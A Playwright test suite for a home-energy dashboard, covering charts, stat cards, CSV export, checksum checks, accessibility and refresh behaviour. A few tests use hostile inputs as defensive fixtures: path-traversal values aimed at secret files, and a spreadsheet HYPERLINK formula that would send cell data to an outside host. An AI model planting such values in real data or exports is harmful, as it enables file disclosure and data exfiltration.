"""The dashboard in headless Chromium against generated data: what a person looking at it sees."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest
from playwright.sync_api import Browser, Page, Playwright, Route, expect

from tests.www.browser import CHROMIUM, CHROMIUM_ARGS
from tests.www.conftest import (
    ARTIFACTS,
    PAST_THE_INTERVAL_MS,
    TWO_FRAMES,
    WWW,
    OpenDashboard,
    wait_while_held,
    watched_page,
)
from tests.www.datagen import LEVELS, Dataset, MeterSpec, fixed_now, write_dataset
from tests.www.server import DashboardServer

pytestmark = pytest.mark.browser

NOW = fixed_now()
NOMINAL = {"daily": 600, "weekly": 3600, "monthly": 86400, "yearly": 86400}
TAB = {
    "daily": "Today",
    "weekly": "This week",
    "monthly": "Last 30 days",
    "yearly": "Last 365 days",
}
# Buckets in the whole period a tab draws: the local day and week holding NOW, the day files.
SLOTS = {"daily": 144, "weekly": 168, "monthly": 30, "yearly": 365}
AMSTERDAM = ZoneInfo("Europe/Amsterdam")
# This week's first row (Monday 00:00) in the fixture's weekly file.
MONDAY_ROW = 104


# The page's own Chart.js module (the same instance the dashboard drew with), for inspecting charts.
IMPORT_CHART = "const { Chart } = await import(new URL('vendor/chart.min.js', document.baseURI));"
# What js/boot.js imports to mount the dashboard, from www/ as it is.
DASHBOARD_MODULES = {
    f"js/{name}.js" for name in ("dashboard", "charts", "format", "stats", "sketch")
}


# Every fetch the page starts, with the time on its own (installed) clock, kept in the page: read
# once the page says a read is done, it holds every request that read made, none still on its way.
RECORD_FETCHES = """(() => {
  window.psFetched = [];
  const pageFetch = window.fetch;
  window.fetch = (resource, init) => {
    window.psFetched.push([String(resource), Date.now()]);
    return pageFetch(resource, init);
  };
})();"""


def drawn_by_chartjs(page: Any, *figures: str) -> None:
    """Wait until Chart.js has drawn the figures' canvases: a chart of bars is sketched by hand
    (js/sketch.js) until Chart.js is in."""
    for figure in figures or ("#ps-main",):
        expect(page.locator(f"{figure} canvas")).to_have_attribute("data-drawn", "chart")


def chart_data(page: Any, figure: str = "#ps-main") -> list[dict[str, Any]]:
    drawn_by_chartjs(page, figure)
    datasets: list[dict[str, Any]] = page.evaluate(
        f"""async (figure) => {{ {IMPORT_CHART}
             return Chart.getChart(document.querySelector(figure + ' canvas')).data.datasets
             .map((d) => ({{label: d.label, data: d.data, spanGaps: d.spanGaps}})); }}""",
        figure,
    )
    return datasets


def show_tab(page: Any, level: str) -> None:
    page.get_by_role("tab", name=TAB[level]).click()
    page.wait_for_selector(f".ps[data-state='ready'][data-level='{level}']")


def view_rows(dataset: Dataset, meter: str, level: str) -> list[list[Any]]:
    """The rows a tab is about, found here without the dashboard's code: Today from local
    midnight and This week from Monday 00:00 (as HA's sensors count them), else the whole file."""
    rows = dataset.rows(meter, level)
    if level not in ("daily", "weekly"):
        return rows
    newest = datetime.fromtimestamp(rows[-1][0], AMSTERDAM).date()
    first = newest - timedelta(days=newest.weekday()) if level == "weekly" else newest
    return [row for row in rows if datetime.fromtimestamp(row[0], AMSTERDAM).date() >= first]


def expected_stats(dataset: Dataset, meter: str, level: str) -> dict[str, float]:
    """The stat cards, computed here from the fixture rows without the dashboard's code."""
    rows, columns = view_rows(dataset, meter, level), dataset.columns(meter, level)
    c = {name: i for i, name in enumerate(columns)}
    energy = 0.0
    covered = 0.0
    for i, row in enumerate(rows):
        if row[c["kwh"]] is None:
            continue
        length = rows[i + 1][0] - row[0] if i + 1 < len(rows) else NOMINAL[level]
        energy += row[c["kwh"]]
        covered += row[c["coverage"]] * length
    with_power = [row for row in rows if row[c["mean_w"]] is not None]
    stats = {
        "latest": with_power[-1][c["mean_w"]],
        "mean": energy * 3.6e6 / covered,
        "min": min(row[c["min_w"]] for row in with_power),
        "max": max(row[c["max_w"]] for row in with_power),
        "energy": energy,
    }
    if "cost" in c:
        stats["cost"] = sum(row[c["cost"]] for row in with_power)
    return stats


def test_every_published_tab_renders_its_chart_without_console_errors(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard()
    for level in LEVELS:
        show_tab(opened.page, level)
        (current,) = chart_data(opened.page)[:1]
        rows = view_rows(dataset, "house", level)
        metric = 1 if level in ("monthly", "yearly") else 2  # energy bars, or power lines
        assert len(current["data"]) == SLOTS[level]
        assert current["data"][: len(rows)] == [row[metric] for row in rows]
    assert opened.errors == []


def test_stat_cards_show_the_values_computed_from_the_fixture_files(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec(gaps={"weekly": range(20, 30)})], NOW)
    opened = open_dashboard()
    for level in LEVELS:
        show_tab(opened.page, level)
        expected = expected_stats(dataset, "house", level)
        for stat, value in expected.items():
            card = opened.page.locator(f"[data-stat='{stat}'] .ps-card-value")
            expect(card).to_have_attribute("data-value", re.compile(r"."))
            shown = float(card.get_attribute("data-value") or "nan")
            assert math.isclose(shown, value, rel_tol=1e-9), (level, stat, shown, value)
            expect(card).not_to_have_text(re.compile(r"^(—)?$"))


def test_a_bucket_without_data_is_a_gap_in_the_chart(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    # Buckets 20 to 34 of this week.
    gaps = range(MONDAY_ROW + 20, MONDAY_ROW + 35)
    write_dataset(data_root, [MeterSpec(gaps={"weekly": gaps})], NOW)
    opened = open_dashboard(url="#meter=house&level=weekly")
    (current,) = chart_data(opened.page)[:1]
    assert current["spanGaps"] is False
    assert current["data"][20:35] == [None] * 15
    # Count pixels in the line's colour (line or fill) in one pixel column of the canvas.
    ink = f"""async (index) => {{ {IMPORT_CHART}
      const canvas = document.querySelector('#ps-main canvas');
      const chart = Chart.getChart(canvas);
      const x = Math.round(chart.scales.x.getPixelForValue(index));
      const {{top, bottom}} = chart.chartArea;
      const pixels = canvas.getContext('2d').getImageData(x, top, 1, bottom - top).data;
      const [r, g, b] = chart.data.datasets[0].borderColor.match(/\\d+/g).map(Number);
      let count = 0;
      for (let i = 0; i < pixels.length; i += 4) {{
        const near = Math.abs(pixels[i] - r) + Math.abs(pixels[i + 1] - g)
          + Math.abs(pixels[i + 2] - b);
        if (pixels[i + 3] > 20 && near < 30) count += 1;
      }}
      return count;
    }}"""
    assert opened.page.evaluate(ink, 10) > 10
    assert opened.page.evaluate(ink, 27) == 0


def test_a_bucket_between_two_gaps_is_drawn_as_a_dot(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    # Bucket 30 of this week alone has data: a line needs two points, so without a dot it
    # would vanish.
    gaps = [*range(MONDAY_ROW + 20, MONDAY_ROW + 30), *range(MONDAY_ROW + 31, MONDAY_ROW + 40)]
    write_dataset(data_root, [MeterSpec(gaps={"weekly": gaps})], NOW)
    opened = open_dashboard(url="#meter=house&level=weekly")
    radii = opened.page.evaluate(
        f"async () => {{ {IMPORT_CHART} return Chart.getChart("
        "document.querySelector('#ps-main canvas'))"
        ".getDatasetMeta(0).data.map((point) => point.options.radius); }"
    )
    assert radii[30] > 0
    assert radii[10] == 0
    assert radii[25] == 0


def test_data_older_than_expected_shows_the_staleness_warning(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, generated=NOW - 3 * 86400, refresh_seconds=600)
    opened = open_dashboard()
    warning = opened.page.get_by_text("The data is older than expected")
    expect(warning).to_be_visible()
    expect(warning).to_contain_text("3 days ago")


def test_fresh_data_shows_no_staleness_warning(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, generated=NOW - 120, refresh_seconds=600)
    opened = open_dashboard()
    expect(opened.page.locator(".ps-asof")).to_contain_text(
        "Data as of 25 Nov 2026, 15:21 (Europe/Amsterdam)"
    )
    expect(opened.page.get_by_text("The data is older than expected")).to_be_hidden()


def test_maintenance_shows_the_banner(data_root: Path, open_dashboard: OpenDashboard) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, maintenance=True)
    opened = open_dashboard()
    expect(opened.page.get_by_text("Maintenance:")).to_be_visible()


def test_no_maintenance_banner_without_maintenance(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, maintenance=False)
    opened = open_dashboard()
    expect(opened.page.get_by_text("Maintenance:")).to_be_hidden()


def test_an_unknown_format_major_shows_the_update_message_and_reads_nothing_else(
    data_root: Path, server: DashboardServer, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, data_format="powerstats/2")
    opened = open_dashboard(state="error")
    expect(opened.page.get_by_role("alert")).to_have_text(
        "This dashboard understands powerstats/1; the data is powerstats/2 — update the dashboard"
    )
    expect(opened.page.get_by_role("tab")).to_have_count(0)
    assert not [path for path, _ in server.served.requests if path.startswith("house/")]
    assert opened.errors == []


def test_the_csv_download_holds_the_rows_of_the_current_view(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec(gaps={"monthly": range(3, 5)})], NOW)
    opened = open_dashboard(url="#meter=house&level=monthly")
    with opened.page.expect_download() as info:
        opened.page.get_by_role("button", name="Download CSV").click()
    download = info.value
    assert download.suggested_filename == "powerstats-house-monthly.csv"
    table = list(csv.reader(io.StringIO(Path(download.path()).read_text())))
    columns = dataset.columns("house", "monthly")
    assert table[0] == ["local_time", *columns]
    rows = dataset.rows("house", "monthly")
    assert len(table) - 1 == len(rows)
    amsterdam = ZoneInfo("Europe/Amsterdam")
    for line, row in zip(table[1:], rows, strict=True):
        assert line[0] == datetime.fromtimestamp(row[0], amsterdam).isoformat()
        assert line[0].endswith("T00:00:00+01:00")  # day buckets start at local midnight
        assert [None if cell == "" else float(cell) for cell in line[1:]] == row


def test_a_file_that_fails_its_checksum_is_ignored_with_a_visible_note(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, tampered=frozenset({"house/weekly.json"}))
    opened = open_dashboard()
    show_tab(opened.page, "weekly")
    expect(
        opened.page.get_by_text("house/weekly.json does not match its size or checksum")
    ).to_be_visible()
    expect(opened.page.get_by_text("No data for this week is available right now.")).to_be_visible()
    expect(opened.page.locator("#ps-main")).to_be_hidden()


def test_only_the_manifest_and_the_files_it_lists_are_fetched_each_once(
    data_root: Path, server: DashboardServer, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec(levels=("daily", "yearly"))], NOW)
    (data_root / "house" / "weekly.json").write_text("{}")  # present on disk, not listed
    opened = open_dashboard()
    opened.page.wait_for_selector(".ps[data-others='ready']")
    fetched = [path for path, _ in server.served.requests]
    data = [path for path in fetched if path == "manifest.json" or path.startswith("house/")]
    # Each once: the early read of the manifest and the view's file is shared with the page.
    assert sorted(data) == ["house/daily.json", "house/yearly.json", "manifest.json"]
    expect(opened.page.get_by_role("tab")).to_have_text(["Today", "Last 365 days"])


def fetched_paths(server: DashboardServer) -> list[str]:
    return [path for path, _ in server.served.requests]


def test_the_view_the_address_names_is_read_while_the_manifest_is_on_its_way(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    """Meter and level in the address: their file (every host's layout) is asked for before the
    manifest answers, and once the manifest vouches for it, it is shown without a second read."""
    dataset = write_dataset(data_root, [MeterSpec()], NOW)
    with watched_page(browser, NOW) as (page, errors):
        held: list[Route] = []
        page.route("**/manifest.json", lambda route: held.append(route))
        page.goto(server.url + "#meter=house&level=yearly")
        wait_while_held(
            page,
            lambda: "house/yearly.json" in fetched_paths(server),
            "the year's file was not read before the manifest",
        )
        assert held
        assert "manifest.json" not in fetched_paths(server)
        for route in held:
            route.continue_()
        expected = expected_stats(dataset, "house", "yearly")
        energy = page.locator(f"[data-stat='energy'] [data-value='{expected['energy']}']")
        expect(energy).to_have_count(1)
        drawn_by_chartjs(page)
        assert fetched_paths(server).count("house/yearly.json") == 1
        assert errors == []


def test_the_page_mounts_once_its_stylesheet_is_in_and_draws_in_its_colours(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    """boot.js runs as soon as it is in, maybe before the stylesheet: with the data in first, the
    dashboard waits for it rather than read its colours from an unstyled page."""
    write_dataset(data_root, [MeterSpec()], NOW)
    with watched_page(browser, NOW) as (page, errors):
        held: list[Route] = []
        page.route("**/styles.css", lambda route: held.append(route))
        page.goto(server.url + "#meter=house&level=yearly", wait_until="commit")
        # The data and every module the dashboard imports, served while the stylesheet waits;
        # then two frames of the page's, in which it would have mounted with them all in.
        wanted = {"manifest.json", "house/yearly.json", *DASHBOARD_MODULES}
        wait_while_held(
            page,
            lambda: wanted <= set(fetched_paths(server)),
            "the data or the dashboard was not read",
        )
        page.evaluate(TWO_FRAMES)
        assert held
        assert page.locator(".ps").count() == 0
        for route in held:
            route.continue_()
        expect(page.locator(".ps")).to_have_attribute("data-state", "ready")
        drawn_by_chartjs(page)
        colours = page.evaluate(f"""async () => {{ {IMPORT_CHART}
          const probe = document.createElement('span');
          probe.style.color = 'var(--ps-accent)';
          document.querySelector('.ps').append(probe);
          const bars = Chart.getChart(document.querySelector('#ps-main canvas')).data.datasets[0];
          return [bars.backgroundColor, getComputedStyle(probe).color]; }}""")
        assert colours[0] == colours[1]
        assert errors == []


def test_an_early_read_the_manifest_does_not_vouch_for_is_read_again(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    """The file changed between the early read and the manifest (a publish in between): the
    bytes the manifest does not vouch for are dropped, the file is read again and shown."""
    dataset = write_dataset(data_root, [MeterSpec()], NOW)
    with watched_page(browser, NOW) as (page, errors):
        reads: list[str] = []

        def older_first(route: Route) -> None:
            reads.append(route.request.url)
            if len(reads) == 1:
                route.fulfill(status=200, content_type="application/json", body='{"older": 1}')
            else:
                route.continue_()

        held: list[Route] = []
        page.route("**/manifest.json", lambda route: held.append(route))
        page.route("**/house/yearly.json", older_first)
        page.goto(server.url + "#meter=house&level=yearly")
        # The early read, answered with the older file while the manifest waits.
        wait_while_held(
            page, lambda: bool(reads), "the year's file was not read before the manifest"
        )
        for route in held:
            route.continue_()
        expected = expected_stats(dataset, "house", "yearly")
        energy = page.locator(f"[data-stat='energy'] [data-value='{expected['energy']}']")
        expect(energy).to_have_count(1)
        expect(page.get_by_text("does not match its size or checksum")).to_have_count(0)
        assert len(reads) == 2
        assert errors == []


def test_an_address_naming_no_meter_id_reads_nothing_early(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    """A meter in the address that no meter id can be (a path, here) is never turned into a
    read: the page shows the first meter, reading only what the manifest lists."""
    write_dataset(data_root, [MeterSpec()], NOW)
    with watched_page(browser, NOW) as (page, errors):
        page.goto(server.url + "#meter=..%2F..%2Fsecret&level=yearly")
        expect(page.locator(".ps")).to_have_attribute("data-state", "ready")
        page.wait_for_selector(".ps[data-others='ready']")
        data = {p for p in fetched_paths(server) if p.endswith(".json")}
        assert data == {"manifest.json", *(f"house/{level}.json" for level in LEVELS)}
        assert errors == []


def test_the_meter_picker_switches_between_meters(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    garage = MeterSpec(id="garage", name="Garage", scale=0.25, currency=None, price_per_kwh=None)
    dataset = write_dataset(data_root, [MeterSpec(), garage], NOW)
    opened = open_dashboard()
    opened.page.get_by_role("combobox", name="Meter").click()
    opened.page.get_by_role("option", name="Garage").click()
    opened.page.wait_for_url("**#meter=garage&level=daily")
    expected = expected_stats(dataset, "garage", "daily")
    energy = opened.page.locator("[data-stat='energy'] .ps-card-value")
    energy.and_(opened.page.locator(f"[data-value='{expected['energy']}']")).wait_for()
    expect(opened.page.locator("[data-stat='cost']")).to_have_count(0)


def test_a_single_meter_has_no_meter_picker(data_root: Path, open_dashboard: OpenDashboard) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard()
    expect(opened.page.locator(".ps-meter-name")).to_have_text("House")
    expect(opened.page.get_by_role("combobox", name="Meter")).to_be_hidden()


def test_a_single_meter_page_never_fetches_the_meter_picker(
    data_root: Path, server: DashboardServer, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard()
    opened.page.wait_for_selector(".ps[data-others='ready']")
    fetched = [path for path, _ in server.served.requests]
    assert "js/dashboard.js" in fetched
    assert "js/picker.js" not in fetched


def test_the_page_icon_is_www_icon_svg_inline() -> None:
    html = (WWW / "index.html").read_text()
    icon = re.search(
        r'<link rel="icon" type="image/svg\+xml" href="data:image/svg\+xml,([^"]+)">', html
    )
    assert icon, "index.html has no inline SVG icon"
    assert unquote(icon[1]) == (WWW / "icon.svg").read_text().strip().replace('"', "'")


def test_an_address_emptied_in_place_shows_the_view_a_fresh_open_would(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard(url="#meter=house&level=yearly")
    dashboard = opened.page.locator(".ps")
    expect(dashboard).to_have_attribute("data-level", "yearly")
    opened.page.evaluate("location.hash = ''")
    expect(dashboard).to_have_attribute("data-level", "daily")


def test_the_arrow_keys_move_between_tabs(data_root: Path, open_dashboard: OpenDashboard) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard()
    opened.page.keyboard.press("Tab")
    expect(opened.page.get_by_role("tab", name="Today")).to_be_focused()
    opened.page.keyboard.press("ArrowRight")
    expect(opened.page.locator(".ps")).to_have_attribute("data-level", "weekly")
    expect(opened.page.get_by_role("tab", name="This week")).to_be_focused()
    opened.page.keyboard.press("End")
    expect(opened.page.locator(".ps")).to_have_attribute("data-level", "yearly")
    expect(opened.page.get_by_role("tab", name="Last 365 days")).to_have_attribute(
        "aria-selected", "true"
    )


def test_compare_draws_the_previous_thirty_days_from_the_yearly_file(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard(url="#meter=house&level=monthly")
    opened.page.wait_for_selector(".ps[data-others='ready']")
    opened.page.get_by_label("Compare with previous period").check()
    opened.page.wait_for_selector("#ps-main[data-compare='on']")
    _, previous = chart_data(opened.page)
    yearly = dataset.rows("house", "yearly")
    assert previous["data"] == [row[1] for row in yearly[-60:-30]]


def test_compare_is_unavailable_when_no_earlier_data_is_published(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard(url="#meter=house&level=yearly")
    opened.page.wait_for_selector(".ps[data-others='ready']")
    expect(opened.page.get_by_label("Compare with previous period")).to_be_disabled()
    expect(opened.page.get_by_text("no earlier data is published")).to_be_visible()


def test_charts_carry_text_alternatives(data_root: Path, open_dashboard: OpenDashboard) -> None:
    dataset = write_dataset(data_root, [MeterSpec()], NOW)
    opened = open_dashboard(url="#meter=house&level=weekly")
    opened.page.wait_for_selector(".ps[data-others='ready']")
    main = opened.page.locator("#ps-main canvas")
    expect(main).to_have_attribute("aria-label", re.compile(r"^Line chart of mean power"))
    averages = opened.page.locator("#ps-averages canvas")
    expect(averages).to_have_attribute("aria-label", re.compile(r"This week:"))
    expect(averages).to_have_attribute("aria-label", re.compile(r"Last 365 days:"))
    # Said once: a screen reader reading the figure meets each period's value one time.
    figure = opened.page.locator("#ps-averages").aria_snapshot()
    assert figure.count("This week:") == 1, figure
    opened.page.get_by_text("Show the data as a table").click()
    rows = opened.page.locator("#ps-main tbody tr")
    expect(rows).to_have_count(len(view_rows(dataset, "house", "weekly")))


def test_the_dark_scheme_follows_the_system(data_root: Path, open_dashboard: OpenDashboard) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    light = open_dashboard(color_scheme="light").page
    dark = open_dashboard(color_scheme="dark").page
    expect(light.locator(".ps")).to_have_css("background-color", "rgb(246, 247, 249)")
    expect(dark.locator(".ps")).to_have_css("background-color", "rgb(17, 19, 24)")


# How many lines an element's text takes: its text boxes' distinct tops.
TEXT_LINES = """element => {
  const range = document.createRange();
  range.selectNodeContents(element);
  return new Set([...range.getClientRects()].map((box) => Math.round(box.top))).size;
}"""


@pytest.mark.parametrize("width", [320, 360, 390, 1280])
def test_the_page_and_every_tab_fit_its_width_and_it_is_saved_as_a_screenshot(
    data_root: Path, open_dashboard: OpenDashboard, width: int
) -> None:
    write_dataset(data_root, [MeterSpec(), MeterSpec(id="garage", name="Garage", scale=0.3)], NOW)
    opened = open_dashboard(width=width, height=800)
    opened.page.wait_for_selector(".ps[data-others='ready']")
    assert opened.page.evaluate("document.documentElement.scrollWidth") <= width
    # Every period's tab is whole on screen: none hides past the edge of a scrolling strip.
    strip = opened.page.locator(".ps-tabs")
    assert strip.evaluate("tabs => tabs.scrollWidth <= tabs.clientWidth")
    for tab in opened.page.get_by_role("tab").all():
        assert tab.evaluate("tab => tab.scrollWidth <= tab.clientWidth"), tab.inner_text()
        assert tab.evaluate(TEXT_LINES) <= 2, tab.inner_text()
    ARTIFACTS.mkdir(exist_ok=True)
    opened.page.screenshot(path=ARTIFACTS / f"dashboard-{width}.png", full_page=True)
    assert opened.errors == []


def test_a_manifest_pointing_outside_the_data_is_refused_and_nothing_is_fetched(
    data_root: Path, server: DashboardServer, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec(levels=("daily",))], NOW)
    manifest = dataset.documents["manifest.json"]
    manifest["meters"][0]["files"]["daily"]["path"] = "../secrets/daily.json"
    (data_root / "manifest.json").write_text(json.dumps(manifest))
    opened = open_dashboard(state="error")
    expect(opened.page.get_by_role("alert")).to_contain_text("is not a PowerStats file path")
    assert [path for path, _ in server.served.requests if path.endswith(".json")] == [
        "manifest.json"
    ]


def test_a_level_file_with_rows_out_of_order_is_not_shown_and_says_why(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec(levels=("daily", "monthly"))], NOW)
    monthly = dataset.documents["house/monthly.json"]
    monthly["rows"][3], monthly["rows"][4] = monthly["rows"][4], monthly["rows"][3]
    dataset.rewrite("house/monthly.json")
    opened = open_dashboard(url="#meter=house&level=monthly")
    expect(opened.page.get_by_text("row 5 is not in increasing order of start")).to_be_visible()
    expect(
        opened.page.get_by_text("No data for the last 30 days is available right now.")
    ).to_be_visible()


def test_the_page_rereads_the_manifest_after_the_writers_refresh_interval(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, refresh_seconds=600)
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(RECORD_FETCHES)
    page.clock.install(time=datetime.fromtimestamp(NOW, UTC))
    page.goto(server.url)
    dashboard = page.locator(".ps")
    expect(dashboard).to_have_attribute("data-reads", "1")
    expect(dashboard).to_have_attribute("data-others", "ready")
    page.clock.fast_forward(PAST_THE_INTERVAL_MS)
    # Read once the page says its re-read is done and shown: every fetch it started is listed.
    expect(dashboard).to_have_attribute("data-reads", "2")
    fetched: list[tuple[str, int]] = page.evaluate("window.psFetched")
    manifest_reads = [at for path, at in fetched if path == "manifest.json"]
    assert len(manifest_reads) == 2
    # Not before the writer's 600 s (nor at the page's own default of 300 s).
    assert manifest_reads[1] - manifest_reads[0] >= 600 * 1000
    # Nothing changed, so no level file is fetched again.
    assert [path for path, _ in fetched].count("house/daily.json") == 1
    context.close()


def test_a_row_starting_at_no_time_a_date_can_show_is_refused_and_the_page_reads_on(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    # Past the year 9999 Intl has no date for it: the view threw and the polling stopped.
    dataset = write_dataset(data_root, [MeterSpec()], NOW, refresh_seconds=600)
    dataset.documents["house/daily.json"]["rows"][-1][0] = 10**13
    dataset.rewrite("house/daily.json")
    context = browser.new_context()
    page = context.new_page()
    page.clock.install(time=datetime.fromtimestamp(NOW, UTC))
    page.goto(server.url)
    dashboard = page.locator(".ps")
    expect(page.get_by_text("starts at no time a date can show")).to_be_visible()
    expect(dashboard).to_have_attribute("data-reads", "1")
    page.clock.fast_forward(PAST_THE_INTERVAL_MS)
    expect(dashboard).to_have_attribute("data-reads", "2")
    context.close()


def test_a_column_named_like_a_spreadsheet_formula_is_refused(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    # Its name would go into the CSV download, where a spreadsheet runs it.
    dataset = write_dataset(data_root, [MeterSpec(levels=("daily", "monthly"))], NOW)
    monthly = dataset.documents["house/monthly.json"]
    monthly["columns"].append('=HYPERLINK("https://example.com/?"&A2,"Open")')
    for row in monthly["rows"]:
        row.append(None)
    dataset.rewrite("house/monthly.json")
    opened = open_dashboard(url="#meter=house&level=monthly")
    expect(opened.page.get_by_text('"columns" is not a list of names')).to_be_visible()


def test_the_page_asks_nothing_of_any_other_origin(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    context = browser.new_context()
    page = context.new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(server.url)
    page.wait_for_selector(".ps[data-others='ready']")
    context.close()
    assert requested
    assert [url for url in requested if not url.startswith(server.url)] == []


@contextmanager
def on_a_lan_address(playwright: Playwright, server: DashboardServer) -> Iterator[Page]:
    """The dashboard over plain http by a LAN name (the board, usually): no secure context, so
    no crypto.subtle to check hashes with."""
    port = server.url.rsplit(":", 1)[1].strip("/")
    browser = playwright.chromium.launch(
        executable_path=CHROMIUM,
        args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP powerstats.lan 127.0.0.1"],
    )
    try:
        page = browser.new_page()
        page.goto(f"http://powerstats.lan:{port}/")
        page.wait_for_selector(".ps[data-state='ready']")
        assert page.evaluate("window.isSecureContext") is False
        yield page
    finally:
        browser.close()


def test_without_a_secure_context_the_data_shows_with_a_note_that_checksums_went_unchecked(
    data_root: Path, server: DashboardServer, playwright: Playwright
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW)
    with on_a_lan_address(playwright, server) as page:
        expect(page.get_by_text("Checksums are not verified here")).to_be_visible()
        energy = page.locator("[data-stat='energy'] .ps-card-value")
        expect(energy).to_have_attribute("data-value", re.compile(r"\d"))


def test_without_a_secure_context_a_file_of_another_size_than_listed_is_still_ignored(
    data_root: Path, server: DashboardServer, playwright: Playwright
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, tampered=frozenset({"house/weekly.json"}))
    with on_a_lan_address(playwright, server) as page:
        show_tab(page, "weekly")
        ignored = "house/weekly.json does not match its size or checksum"
        expect(page.get_by_text(ignored)).to_be_visible()
        expect(page.get_by_text("No data for this week is available right now.")).to_be_visible()


def test_a_view_partly_rebuilt_from_the_recorder_says_how_much(
    data_root: Path, open_dashboard: OpenDashboard
) -> None:
    dataset = write_dataset(data_root, [MeterSpec(backfilled={"yearly": range(0, 73)})], NOW)
    opened = open_dashboard(url="#meter=house&level=yearly")
    rows = dataset.rows("house", "yearly")
    covered = [
        row[5] * (rows[i + 1][0] - row[0] if i + 1 < len(rows) else 86400)
        for i, row in enumerate(rows)
    ]
    share = round(100 * sum(covered[:73]) / sum(covered))
    note = opened.page.locator(".ps-backfill")
    expect(note).to_have_text(
        f"{share}% of the covered time in this view was rebuilt from Home Assistant's recorder"
        " (its recorded states where it still keeps them, its hourly statistics before that)"
        " rather than tracked live."
    )
    show_tab(opened.page, "daily")
    expect(note).to_be_hidden()


def test_a_failed_reread_keeps_the_last_good_data_on_screen_with_the_reason(
    data_root: Path, server: DashboardServer, browser: Browser
) -> None:
    write_dataset(data_root, [MeterSpec()], NOW, refresh_seconds=600)
    context = browser.new_context()
    page = context.new_page()
    page.clock.install(time=datetime.fromtimestamp(NOW, UTC))
    page.goto(server.url)
    page.wait_for_selector(".ps[data-others='ready']")
    card = page.locator("[data-stat='energy'] .ps-card-value")
    expect(card).not_to_have_text(re.compile(r"^(—)?$"))
    energy = card.inner_text()
    (data_root / "manifest.json").unlink()  # the source is gone (HA restarting, say)
    with page.expect_response(lambda response: response.url.endswith("/manifest.json")):
        page.clock.fast_forward(PAST_THE_INTERVAL_MS)
    note = page.get_by_text("Could not refresh: manifest.json could not be fetched (HTTP 404)")
    expect(note).to_be_visible()
    expect(card).to_have_text(energy)
    expect(page.get_by_role("alert")).to_be_hidden()
    context.close()
